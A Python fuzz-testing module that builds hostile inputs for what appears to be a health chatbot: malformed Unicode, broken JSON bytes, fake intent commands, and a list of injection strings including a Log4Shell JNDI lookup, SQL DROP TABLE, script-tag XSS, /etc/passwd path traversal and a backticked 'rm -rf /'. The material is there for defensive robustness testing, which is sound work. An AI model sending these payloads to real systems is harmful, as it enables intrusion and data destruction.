"""Hostile values: texts, JSON and bytes that break programs, made fast from one seed."""

from __future__ import annotations

import json
import random
from typing import Any

#: What people, attackers and broken programs type.
TEXTS = (
    "",
    " ",
    "\x00",
    "\x00\x01\x02",
    "\ufeff",
    "\u202e\u2066abc\u2069",
    "\ud800",
    "\udfff\ud800",
    "a\u0300" * 400,
    "👩‍👩‍👧‍👦" * 50,
    "ﷺ" * 300,
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
    "𒀱" * 200,
    "\u2028\u2029\x85\x0b\x0c",
    "1" * 1000,
    "." * 1000,
    "?" * 999,
    "9" * 400 + "." + "9" * 400,
    "/restart",
    "/session_start",
    "/back",
    "/greet{}",
    '/choose{"answer": "x"}',
    '/choose{"answer": null}',
    "/choose{" * 60,
    '/choose{"answer": "cervicogenic-headache/what-it-is", "red_flag": "none"}',
    '/inform{"name": "x"}',
    "/" * 900,
    "//greet",
    '/open_topic{"open_topic": ["neck-pain"]}',
    '/delete_my_data{"a": 1}',
    "/nlu_fallback",
    "EXTERNAL: reminder",
    "_mood_",
    "action_listen",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "{0.__class__}",
    "%s%n%x",
    "%(levelname)s",
    "'; DROP TABLE conversations; --",
    '" OR 1=1',
    "<script>alert(1)</script>",
    "<b>[x](javascript:alert(1))**_`~",
    "](http://x)",
    "../../../../etc/passwd",
    "\\x00\\u0000",
    "`rm -rf /`",
    "my name is Wilhelmina Quackenbush, call 555-0199",
    "what is occipital neuralgia?",
    "neck pain " * 90,
    "i want to die",
    "NaN",
    "-0",
    "null",
    "I can't feel my face",
    "¿qué es la migraña?",
    "偏头痛和自身免疫性疾病有什么关系",
    "что такое мигрень",
    "\t\n\r what\n\n\n is\tlupus ?",
)
#: JSON that is none, and JSON that is too much.
BROKEN = (
    b"",
    b"{",
    b"}",
    b"[",
    b"nul",
    b"NaN",
    b"-",
    b"\xff\xfe\x00",
    b'{"a":',
    b'{"message":"\\u',
    b'{"message":"\\ud800"}',
    b"\x00" * 50,
    b'{"message": "a", "message": {}}',
    b"[" * 12_000,
    b'{"a":' * 2_500,
    b"1" * 5_000,
    b'"' + b"\\" * 901 + b'"',
    b"1e999999",
    b"{'a': 1}",
    b'{"message": 1e400, "sender": -1e400}',
    "{“message”: “hi”}".encode(),
    b"\xef\xbb\xbf{}",
    b"{}" * 400,
    b"message=hello&sender=x",
)
WORDS = (
    "headache",
    "neck",
    "pain",
    "lupus",
    "what",
    "is",
    "why",
    "my",
    "doctor",
    "fever",
    "not",
    "treat",
    "injection",
    "hemicrania",
    "xqzt",
    "!!",
    "é",
    "😀",
)


class Hostile:
    """Makes values from a seeded chance."""

    def __init__(self, chance: random.Random):
        self.chance = chance

    def text(self) -> str:
        """A text: known to be nasty, of any characters, of words, or nasty ones joined and cut."""
        chance, which = self.chance, self.chance.random()
        if which < 0.35:
            return chance.choice(TEXTS)
        if which < 0.55:
            top = chance.choice((0x7F, 0xFF, 0xFFFF, 0x10FFFF))
            return "".join(chr(chance.randint(0, top)) for _ in range(chance.randint(0, 60)))
        if which < 0.75:
            return " ".join(chance.choice(WORDS) for _ in range(chance.randint(1, 30)))
        if which < 0.97:
            joined = "".join(chance.choice(TEXTS) for _ in range(3))
            start = chance.randint(0, len(joined))
            return joined[start : start + chance.randint(0, 300)]
        return chance.choice(("x", "é", "\u202e", "a b? ")) * chance.choice((999, 1001, 5_000, 20_000))

    def value(self, depth: int = 3) -> Any:
        """Any JSON value."""
        chance, which = self.chance, self.chance.randint(0, 9 if depth else 6)
        if which < 3:
            return self.text()
        if which < 5:
            return chance.choice((0, -1, 2**31, 2**63, 2**64, -(10**40), 1e308, 0.1, float("inf"), float("nan")))
        if which < 7:
            return chance.choice((None, True, False, [], {}, ""))
        if which < 9:
            return {self.text()[:30]: self.value(depth - 1) for _ in range(chance.randint(0, 5))}
        return [self.value(depth - 1) for _ in range(chance.randint(0, 5))]

    def body(self, value: Any) -> bytes:
        """A value as bytes: JSON in one of its spellings, now and then damaged."""
        chance = self.chance
        plain = chance.random() < 0.7
        made = json.dumps(value, ensure_ascii=plain).encode("utf-8", "surrogatepass")
        return self.damaged(made) if chance.random() < 0.05 else made

    def damaged(self, raw: bytes) -> bytes:
        """Bytes with a few of them changed, taken away, or doubled."""
        chance, made = self.chance, bytearray(raw)
        for _ in range(chance.randint(1, 6)):
            at = chance.randint(0, max(0, len(made) - 1))
            what = chance.randint(0, 3)
            if what == 0 and made:
                made[at] = chance.randint(0, 255)
            elif what == 1:
                del made[at : at + chance.randint(1, 8)]
            elif what == 2:
                made[at:at] = made[at : at + chance.randint(1, 30)]
            else:
                made[at:at] = bytes([chance.choice((0, 10, 13, 32, 37, 58, 127, 128, 255))])
        return bytes(made)
